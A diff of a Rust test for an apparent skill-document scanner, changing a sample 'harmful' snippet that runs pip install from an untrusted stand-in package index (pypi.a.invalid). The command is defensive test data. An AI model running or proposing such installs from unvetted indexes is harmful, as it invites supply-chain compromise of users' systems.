@@ -130,7 +130,7 @@ fn a_nested_skill_is_judged_anew_when_the_outer_text_changes() {
 fn findings_in_a_sample_of_another_skill_are_information_but_for_what_could_do_harm() {
     let faulty = "---\nname: Bad Name\nallowed-tools: bash\n---\nRead [more](more.md).\n";
     let harmful =
-        format!("{TEXT}```sh\npip install forms --index-url https://example.org/simple\n```\n");
+        format!("{TEXT}```sh\npip install forms --index-url https://pypi.a.invalid/simple\n```\n");
     for (folder, text, worst) in [
         ("office/evals/fixtures/pdf", faulty, Some(Severity::Info)),
         ("office/mock-skills/pdf", faulty, Some(Severity::Info)),
